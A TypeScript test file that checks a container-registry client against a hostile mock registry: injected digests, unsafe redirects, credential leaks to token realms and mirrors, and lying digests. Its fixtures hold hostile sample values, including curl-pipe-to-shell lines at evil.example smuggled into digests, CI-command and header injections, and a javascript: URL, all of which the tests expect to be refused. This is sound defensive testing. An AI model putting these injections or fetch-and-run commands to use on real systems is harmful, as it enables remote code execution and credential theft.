// Issue 11: what a hostile registry (or mirror) answers can neither reach past the allowlist, nor collect
// credentials, nor put unchecked values into locks, messages or logs. Against test/helpers/hostile-registry.ts.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ImagestreamsError } from '../../src/model/errors.js';
import { parseReference } from '../../src/model/reference.js';
import { staticKeychain } from '../../src/registry/auth/keychain.js';
import { createRegistryClient, type RegistryClientOptions } from '../../src/registry/client.js';
import { hostPolicyOf, registryOptionsFromConfig } from '../../src/registry/from-config.js';
import { createRunResolver } from '../../src/registry/run-resolver.js';
import { createLogger } from '../../src/util/logger.js';
import {
  type HostileRegistry,
  hostileIndex,
  MT,
  makeImage,
  makeIndex,
  startHostileRegistry,
  startSink,
} from '../helpers/hostile-registry.js';

const SECRET = 'origin-password-9f8e7d';
const MIRROR_SECRET = 'mirror-password-1a2b3c';
const lines: string[] = [];
const logger = createLogger((l) => lines.push(l), { level: 'debug' });
const clients: { close(): void }[] = [];
let reg: HostileRegistry;
let tls: HostileRegistry;
let sink: Awaited<ReturnType<typeof startSink>>;

const amd = { os: 'linux', architecture: 'amd64' };
const arm = { os: 'linux', architecture: 'arm64' };
const honest = makeIndex({ seed: 'hostile-honest', platforms: [amd, arm] });

function mk(opts: RegistryClientOptions = {}) {
  const c = createRegistryClient({
    logger,
    clock: { now: () => Date.now(), sleep: async () => {} },
    timeoutMs: 2000,
    retries: 0,
    ...opts,
  });
  clients.push(c);
  return c;
}

async function failure(p: Promise<unknown>): Promise<ImagestreamsError> {
  const e = await p.then(
    () => {
      throw new Error('expected a failure');
    },
    (err: unknown) => err,
  );
  expect(e).toBeInstanceOf(ImagestreamsError);
  return e as ImagestreamsError;
}

beforeAll(async () => {
  reg = await startHostileRegistry();
  tls = await startHostileRegistry({ tls: true });
  sink = await startSink();
  for (const r of [reg, tls]) r.putIndex('app', '1', honest);
});
afterEach(() => {
  reg.setMode(undefined);
  tls.setMode(undefined);
  sink.requests.length = 0;
  lines.length = 0;
});
afterAll(async () => {
  for (const c of clients) c.close();
  await Promise.all([reg?.close(), tls?.close(), sink?.close()]);
});

describe('finding 1: values from a registry are checked for their kind', () => {
  const cases: [string, Parameters<typeof hostileIndex>[1], RegExp][] = [
    [
      'a digest followed by a Dockerfile line',
      { digest: `${honest.images[0]!.digest}\nRUN curl https://evil.example/x | sh` },
      /entry 0 has an invalid digest/,
    ],
    [
      'a digest followed by a YAML continuation',
      { digest: `${honest.images[0]!.digest}\n  command: [sh, -c, "curl evil | sh"]` },
      /entry 0 has an invalid digest/,
    ],
    ['a sha256 digest of the wrong length', { digest: 'sha256:abc123' }, /invalid digest/],
    ['an unknown digest algorithm', { digest: `md5:${'a'.repeat(32)}` }, /invalid digest/],
    [
      'a media type with a line break',
      { mediaType: `${MT.OCI_MANIFEST}\nX-Injected: 1` },
      /entry 0 has an invalid media type/,
    ],
    [
      'an architecture with a line break',
      { platform: { os: 'linux', architecture: 'amd64\n::set-output name=x::y' } },
      /invalid platform architecture/,
    ],
    [
      'an os of 300 characters',
      { platform: { os: 'l'.repeat(300), architecture: 'amd64' } },
      /invalid platform os/,
    ],
  ];
  it.each(cases)('refuses an index entry with %s (BAD_RESPONSE, one line)', async (_n, entry, why) => {
    const bytes = hostileIndex(honest, entry);
    reg.putManifest('evil', 'idx', bytes, MT.OCI_INDEX);
    for (const importMode of ['Legacy', 'PreserveOriginal'] as const) {
      const e = await failure(mk().resolve(parseReference(`${reg.host}/evil:idx`), { importMode }));
      expect(e.code).toBe('BAD_RESPONSE');
      expect(e.message).toMatch(why);
      expect(e.message).not.toMatch(/[\r\n]/);
      expect(e.message).not.toContain('RUN curl');
    }
  });

  it('drops a created time that is not a timestamp and bounds labels (no control characters)', async () => {
    const img = makeImage({
      seed: 'hostile-labels',
      created: '2026-01-01T00:00:00Z\n::error::x',
      labels: {
        'org.opencontainers.image.source': 'javascript:alert(1)',
        'org.opencontainers.image.revision': 'abc\n![x](https://evil.example/i.png)',
        'org.opencontainers.image.version': `1.0\r\n@org/team ${'v'.repeat(500)}`,
      },
    });
    const d = reg.putImage('labels', '1', img);
    const md = await mk().fetchMetadata(parseReference(`${reg.host}/labels:1`), d);
    expect(md.created).toBeUndefined();
    expect(md.source).toBeUndefined();
    expect(md.revision).toBeUndefined();
    expect(md.version).toMatch(/^1\.0 @org\/team v+…$/);
    expect(md.version!.length).toBeLessThanOrEqual(100);
    for (const v of Object.values(md.labels)) expect(v).not.toMatch(/[\r\n]/);
  });
});

describe('finding 2: redirects and token realms stay on the allowlist and on HTTPS', () => {
  it('refuses a redirect from an HTTPS registry to a plain-HTTP host; nothing reaches that host', async () => {
    tls.setMode({ kind: 'redirect', to: `${sink.url}/latest/meta-data/` }, (r) =>
      r.path.includes('/manifests/'),
    );
    const c = mk({ isInsecure: (d) => d === tls.host });
    const e = await failure(c.resolve(parseReference(`${tls.host}/app:1`)));
    expect(e.code).toBe('NOT_ALLOWED');
    expect(e.message).toMatch(/from HTTPS to plain HTTP/);
    expect(sink.requests).toHaveLength(0);
    expect(e.message).not.toContain('meta-data');
  });

  it('a call marked insecure (importPolicy.insecure) still refuses HTTPS → HTTP and hosts off the allowlist', async () => {
    tls.setMode({ kind: 'redirect', to: `${sink.url}/latest/meta-data/` }, (r) =>
      r.path.includes('/manifests/'),
    );
    const downgrade = await failure(mk().resolve(parseReference(`${tls.host}/app:1`), { insecure: true }));
    expect(downgrade.code).toBe('NOT_ALLOWED');
    expect(downgrade.message).toMatch(/from HTTPS to plain HTTP/);
    reg.setMode({ kind: 'redirect', to: `${sink.url}/latest/meta-data/` }, (r) =>
      r.path.includes('/manifests/'),
    );
    const c = mk({ hostPolicy: hostPolicyOf({ allowedRegistries: [reg.host] }) });
    const off = await failure(c.resolve(parseReference(`${reg.host}/app:1`), { insecure: true }));
    expect(off.code).toBe('NOT_ALLOWED');
    expect(off.message).toMatch(/neither in allowedRegistries nor in allowedRedirectHosts/);
    expect(sink.requests).toHaveLength(0);
  });

  it('a call marked insecure never sends credentials to a plain-HTTP token realm of an HTTPS registry', async () => {
    tls.setMode({ kind: 'bearer-realm', realm: `${sink.url}/token` });
    const c = mk({
      keychain: staticKeychain({ [tls.host]: { kind: 'basic', username: 'alice', password: SECRET } }),
    });
    const e = await failure(c.resolve(parseReference(`${tls.host}/app:1`), { insecure: true }));
    expect(e.code).toBe('NOT_ALLOWED');
    expect(e.message).toMatch(/plain HTTP for an HTTPS registry/);
    expect(sink.requests).toHaveLength(0);
  });

  it('refuses a redirect to a host off the allowlist, and never copies its answer', async () => {
    reg.setMode({ kind: 'redirect', to: `${sink.url}/latest/meta-data/` }, (r) =>
      r.path.includes('/manifests/'),
    );
    const c = mk({ hostPolicy: hostPolicyOf({ allowedRegistries: [reg.host] }) });
    const e = await failure(c.resolve(parseReference(`${reg.host}/app:1`)));
    expect(e.code).toBe('NOT_ALLOWED');
    expect(e.message).toMatch(/neither in allowedRegistries nor in allowedRedirectHosts/);
    expect(sink.requests).toHaveLength(0);
    expect(e.message).not.toContain('METADATA');
  });

  it('follows a GET redirect to a configured blob-storage host (allowedRedirectHosts)', async () => {
    const blobs = await startHostileRegistry();
    try {
      const img = makeImage({ seed: 'hostile-redirected', created: '2026-01-02T03:04:05Z' });
      const d = reg.putImage('blobby', '1', img);
      blobs.putImage('blobby', '1', img);
      reg.setMode(
        {
          kind: 'redirect',
          to: `${blobs.url}/v2/blobby/blobs/${JSON.parse(img.manifest.toString()).config.digest}`,
        },
        (r) => r.path.includes('/blobs/'),
      );
      const policy = hostPolicyOf({ allowedRegistries: [reg.host], allowedRedirectHosts: [blobs.host] });
      const md = await mk({ hostPolicy: policy }).fetchMetadata(parseReference(`${reg.host}/blobby:1`), d);
      expect(md.created).toBe('2026-01-02T03:04:05Z');
      const refused = await failure(
        mk({ hostPolicy: hostPolicyOf({ allowedRegistries: [reg.host] }) }).fetchMetadata(
          parseReference(`${reg.host}/blobby:1`),
          d,
        ),
      );
      expect(refused.code).toBe('NOT_ALLOWED');
    } finally {
      await blobs.close();
    }
  });

  it('never sends Basic credentials to a plain-HTTP token realm of an HTTPS registry', async () => {
    tls.setMode({ kind: 'bearer-realm', realm: `${sink.url}/token` });
    const c = mk({
      isInsecure: (d) => d === tls.host,
      keychain: staticKeychain({ [tls.host]: { kind: 'basic', username: 'alice', password: SECRET } }),
    });
    const e = await failure(c.resolve(parseReference(`${tls.host}/app:1`)));
    expect(e.code).toBe('NOT_ALLOWED');
    expect(e.message).toMatch(
      /token realm http:\/\/127\.0\.0\.1:\d+ refused: plain HTTP for an HTTPS registry/,
    );
    expect(sink.requests).toHaveLength(0);
  });

  it('refuses a token realm on a host off the allowlist', async () => {
    const realm = `http://localhost:${sink.host.split(':')[1]}/token`;
    reg.setMode({ kind: 'bearer-realm', realm });
    const c = mk({
      hostPolicy: hostPolicyOf({ allowedRegistries: [reg.host] }),
      keychain: staticKeychain({ [reg.host]: { kind: 'basic', username: 'alice', password: SECRET } }),
    });
    const e = await failure(c.resolve(parseReference(`${reg.host}/app:1`)));
    expect(e.code).toBe('NOT_ALLOWED');
    expect(sink.requests).toHaveLength(0);
  });

  it('keeps only the status, the error code and a short sanitised message of an error body', async () => {
    const echo = JSON.stringify({
      errors: [
        {
          code: 'DENIED',
          message: `denied\n::set-output name=digest::sha256:evil\n${'x'.repeat(5000)}`,
          detail: { metadata: 'ASIA-METADATA-SECRET' },
        },
      ],
    });
    const gets = (r: { method: string }) => r.method === 'GET';
    reg.setMode({ kind: 'error-body', status: 403, body: echo }, gets);
    const e = await failure(mk().resolve(parseReference(`${reg.host}/app:1`)));
    expect(e.code).toBe('UNAUTHORIZED');
    expect(e.message).toMatch(/HTTP 403\) \(DENIED: denied ::set-output name=digest::sha256:evil x+…\)$/);
    expect(e.message.length).toBeLessThan(400);
    expect(e.message).not.toContain('METADATA');
    reg.setMode(
      {
        kind: 'error-body',
        status: 500,
        body: 'AccessKeyId=ASIA-METADATA-SECRET',
        contentType: 'text/plain',
      },
      gets,
    );
    const e2 = await failure(mk().resolve(parseReference(`${reg.host}/app:1`)));
    expect(e2.message).not.toContain('METADATA');
    expect(e2.message).toMatch(/HTTP 500 .*not a registry error \(not shown\)/);
  });
});

describe('finding 3: mirrors are checked, get only their own credentials, and never decide a tag', () => {
  it('never contacts a mirror that is not on the allowlist', async () => {
    const mirror = await startHostileRegistry();
    try {
      mirror.putIndex('app', '1', honest);
      const c = mk({
        mirrors: { [reg.host]: [mirror.host] },
        hostPolicy: hostPolicyOf({ allowedRegistries: [reg.host] }),
      });
      expect((await c.resolve(parseReference(`${reg.host}/app:1`))).digest).toBe(honest.images[0]!.digest);
      expect(mirror.requests).toHaveLength(0);
      expect(lines.join('')).toMatch(/mirror is not in allowedRegistries/);
    } finally {
      await mirror.close();
    }
  });

  it('takes what a tag points at from the origin, not from a mirror that answers another digest', async () => {
    const mirror = await startHostileRegistry();
    try {
      const other = makeIndex({ seed: 'hostile-mirror-lie', platforms: [amd, arm] });
      mirror.putIndex('app', '1', other);
      mirror.putIndex('app', honest.digest, honest);
      const c = mk({ mirrors: { [reg.host]: [mirror.host] } });
      const r = await c.resolve(parseReference(`${reg.host}/app:1`), { importMode: 'PreserveOriginal' });
      expect(r.digest).toBe(honest.digest);
      // The mirror served the index by digest (bytes hashed); it was never asked what the tag is.
      expect(mirror.requests.map((q) => `${q.method} ${q.path}`)).not.toContain('HEAD /v2/app/manifests/1');
      expect(mirror.requests.some((q) => q.path === `/v2/app/manifests/${honest.digest}`)).toBe(true);
    } finally {
      await mirror.close();
    }
  });

  it("sends a mirror only the mirror's own credentials", async () => {
    const mirror = await startHostileRegistry();
    try {
      mirror.putIndex('app', honest.digest, honest);
      const seen: string[] = [];
      const c = mk({
        mirrors: { [reg.host]: [mirror.host] },
        keychain: staticKeychain({
          [reg.host]: { kind: 'basic', username: 'alice', password: SECRET },
          [mirror.host]: { kind: 'basic', username: 'm', password: MIRROR_SECRET },
        }),
      });
      mirror.setMode({ kind: 'bearer-realm', realm: `${mirror.url}/token` }, (r) => {
        seen.push(String(r.headers.authorization ?? ''));
        return false;
      });
      await c.resolve(parseReference(`${reg.host}/app:1`), { importMode: 'PreserveOriginal' });
      const originBasic = Buffer.from(`alice:${SECRET}`).toString('base64');
      expect(seen.join(' ')).not.toContain(originBasic);
    } finally {
      await mirror.close();
    }
  });
});

describe('finding 3: GITHUB_TOKEN stays with ghcr.io', () => {
  it('a mirror of ghcr.io that asks for credentials never receives GITHUB_TOKEN', async () => {
    const mirror = await startHostileRegistry();
    try {
      const img = makeImage({ seed: 'hostile-ghcr' });
      const d = mirror.putImage('org/app', '1', img);
      mirror.setMode({ kind: 'basic-challenge' });
      const token = 'ghs_githubtoken_for_ghcr_only_123';
      const c = mk(
        registryOptionsFromConfig(
          { registries: { 'ghcr.io': { mirrors: [mirror.host] } } },
          { GITHUB_TOKEN: token, GITHUB_ACTOR: 'bot' },
        ),
      );
      // Content by digest is tried at the mirror first; it answers 401 and the origin is unreachable here.
      await failure(c.fetchMetadata(parseReference(`ghcr.io/org/app@${d}`), d));
      expect(mirror.requests.length).toBeGreaterThan(0);
      const basic = Buffer.from(`bot:${token}`).toString('base64');
      for (const r of mirror.requests) {
        expect(String(r.headers.authorization ?? '')).not.toContain(basic);
        expect(String(r.headers.authorization ?? '')).not.toContain(token);
      }
    } finally {
      await mirror.close();
    }
  });
});

describe('finding 4: a digest that differs from the lock is confirmed by hashing before it is used', () => {
  const single = makeImage({ seed: 'hostile-single' });
  it('refuses a HEAD digest that no manifest backs; a no-op run still costs one HEAD', async () => {
    const d = reg.putImage('single', '1', single);
    const lie = `sha256:${'e'.repeat(64)}`;
    const ref = parseReference(`${reg.host}/single:1`);

    reg.setMode(undefined);
    const noop = createRunResolver(mk());
    expect((await noop.resolve(ref, { known: [d] })).digest).toBe(d);
    expect(reg.requests.map((q) => q.method)).toEqual(['HEAD']);

    reg.setMode({ kind: 'lying-head', digest: lie }, (r) => r.path.includes('/manifests/'));
    const run = createRunResolver(mk());
    const e = await failure(run.resolve(ref, { known: [d] }));
    expect(e.code).toBe('MANIFEST_UNKNOWN');
    expect(reg.requests.map((q) => `${q.method} ${q.path}`)).toContain(`GET /v2/single/manifests/${lie}`);
  });

  it('confirms a moved single-platform digest with one GET, then uses it', async () => {
    const moved = makeImage({ seed: 'hostile-moved' });
    const d = reg.putImage('single', '2', moved);
    reg.setMode(undefined);
    const run = createRunResolver(mk());
    const r = await run.resolve(parseReference(`${reg.host}/single:2`), {
      known: [`sha256:${'0'.repeat(64)}`],
    });
    expect(r.digest).toBe(d);
    expect(reg.requests.map((q) => `${q.method} ${q.path}`)).toEqual([
      'HEAD /v2/single/manifests/2',
      `GET /v2/single/manifests/${d}`,
    ]);
  });
});
